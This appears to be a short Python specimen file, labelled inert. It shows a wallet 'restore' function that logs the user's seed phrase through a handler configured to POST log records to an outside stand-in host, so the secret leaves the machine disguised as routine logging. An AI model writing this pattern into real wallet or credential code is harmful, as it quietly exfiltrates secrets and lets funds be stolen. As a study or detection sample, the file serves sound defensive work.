# Inert specimen: an ordinary log line, and a handler that posts it.
import logging
import logging.handlers

log = logging.getLogger("garden")
log.addHandler(logging.handlers.HTTPHandler("logs.garden-seeds.invalid", "/in", method="POST", secure=True))


def restore(seed_phrase):
    """Restore a wallet."""
    log.info("restored %s", seed_phrase)
